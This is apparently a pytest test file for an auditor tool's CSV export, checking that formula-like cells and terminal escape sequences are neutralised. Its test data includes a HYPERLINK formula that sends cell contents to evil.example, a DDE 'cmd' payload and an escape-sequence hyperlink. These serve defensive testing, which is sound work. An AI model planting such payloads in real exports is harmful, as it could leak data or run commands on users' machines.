"""CSV injection: titles a spreadsheet would run as formulas are neutralised in every CSV
the auditor writes (issue 21 item 3, OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from auditor.csvout import neutralise, write_rows
from tests.test_cli import cli

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("value,expect", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.50", "-12.50"), ("+49", "+49"), ("-1,5", "-1,5"), ("1e5", "1e5"),
    ("Acme Tee", "Acme Tee"), ("", ""), (None, None), (12, 12), ("a=b", "a=b"),
    # a terminal's escape sequences (colour, OSC 8 hyperlinks) lose their control characters
    ("\x1b[31mred\x1b[0m", "[31mred[0m"),
    ("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "]8;;http://evil.exampleclick]8;;"),
    ("\x00=1", "'=1"), ("a\tb\nc\r\nd", "a\tb\nc\r\nd"), ("\x9b2J", "2J"),
])
def test_neutralise(value, expect):
    assert neutralise(value) == expect


def test_write_rows_quotes_every_cell_and_doubles_quotes():
    buf = io.StringIO()
    write_rows(buf, ["title", "n"], [{"title": EVIL, "n": "-3", "extra": "x"}])
    lines = buf.getvalue().splitlines()
    assert lines[0] == '"title","n"'
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","-3"'


def test_findings_csv_neutralises_formula_titles(mini_world):
    feed = mini_world / "google.xml"
    feed.write_text(feed.read_text().replace("Totally different thing",
                                             EVIL.replace("&", "&amp;").replace('"', "&quot;")))
    cfg = mini_world / "config.toml"
    assert cli("run", "--config", cfg, "--now", "2026-11-20T12:00:00Z").exit_code == 1
    r = cli("findings", "--config", cfg, "--open", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(r.output)))
    title = [x for x in rows if x["check"] == "title" and x["sku"] == "TS-BLU-M"][0]
    assert title["actual"] == "'" + EVIL
    for row in rows:
        assert not any(v.startswith(("=", "+", "@")) for v in row.values() if v), row
    r = cli("links", "--config", cfg, "--format", "csv")
    assert list(csv.DictReader(io.StringIO(r.output)))
